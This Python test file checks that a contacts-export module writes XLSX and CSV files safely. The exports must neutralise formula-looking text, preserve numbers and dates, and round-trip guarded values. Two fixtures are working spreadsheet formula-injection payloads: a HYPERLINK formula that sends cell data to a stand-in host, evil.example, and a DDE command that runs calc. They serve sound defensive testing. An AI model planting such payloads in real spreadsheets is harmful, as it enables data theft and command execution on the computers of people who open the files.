"""core/exports: every export is safe to open in a spreadsheet and re-imports unchanged."""

import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import FORMULA_STARTS, csv_lines, guarded, unguarded, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
DDE = "=cmd|' /C calc'!A0"


def _xlsx(header, rows, **options):
    output = io.BytesIO()
    write_xlsx(output, header, rows, sheet_name="Contacts", **options)
    output.seek(0)
    return load_workbook(output)


def test_text_that_looks_like_a_formula_is_written_to_xlsx_as_text():
    workbook = _xlsx(["name"], [[HYPERLINK], [DDE], ["@SUM(1)"]])

    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]
    assert [cell.value for cell in cells] == [HYPERLINK, DDE, "@SUM(1)"]


def test_numbers_and_dates_keep_their_types_in_xlsx():
    stockholm = ZoneInfo("Europe/Stockholm")
    row = [
        7,
        Decimal("12.50"),
        1.5,
        datetime.date(2026, 3, 1),
        datetime.datetime(2026, 3, 1, 9, 30, tzinfo=stockholm),
        None,
    ]

    values = next(_xlsx(list("abcdef"), [row]).active.iter_rows(min_row=2))

    # Excel has no time zones: the local time, as the pages show it.
    naive = [
        datetime.datetime(2026, 3, 1),  # noqa: DTZ001
        datetime.datetime(2026, 3, 1, 9, 30),  # noqa: DTZ001
    ]
    assert [cell.value for cell in values] == [7, 12.5, 1.5, *naive, None]
    assert values[0].data_type == "n"


def test_characters_a_sheet_cannot_hold_are_left_out():
    workbook = _xlsx(["name"], [["Bell\x07 and\x00 null"]])

    assert workbook.active["A2"].value == "Bell and null"


def test_rows_past_a_sheets_limit_go_on_to_another_sheet_with_the_header():
    rows = [[f"row {number}"] for number in range(1, 6)]

    workbook = _xlsx(["name"], rows, max_rows=3)

    assert workbook.sheetnames == ["Contacts", "Contacts (2)", "Contacts (3)"]
    assert [
        [row[0] for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    ] == [["name", "row 1", "row 2"], ["name", "row 3", "row 4"], ["name", "row 5"]]


def test_an_empty_export_is_a_sheet_with_the_header():
    workbook = _xlsx(["number", "name"], [])

    assert list(workbook.active.iter_rows(values_only=True)) == [("number", "name")]


def test_csv_text_that_a_spreadsheet_reads_as_a_formula_gets_an_apostrophe():
    lines = list(csv_lines(["name", "phone"], [[HYPERLINK, "+46 70 123 45 67"]]))

    assert lines[1].startswith(f"\"'{HYPERLINK.replace('"', '""')}\",'+46 70")


def test_csv_numbers_and_dates_are_written_as_they_are():
    lines = list(csv_lines(["a", "b", "c"], [[-5, datetime.date(2026, 3, 1), None]]))

    assert lines[1] == "-5,2026-03-01,\n"


@given(st.text())
def test_unguarded_gives_back_any_text_that_was_guarded(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(FORMULA_STARTS)


def test_text_without_a_guard_is_not_changed_by_unguarded():
    assert unguarded("'quoted'") == "'quoted'"
    assert unguarded("O'Brien") == "O'Brien"
    assert unguarded("'") == "'"
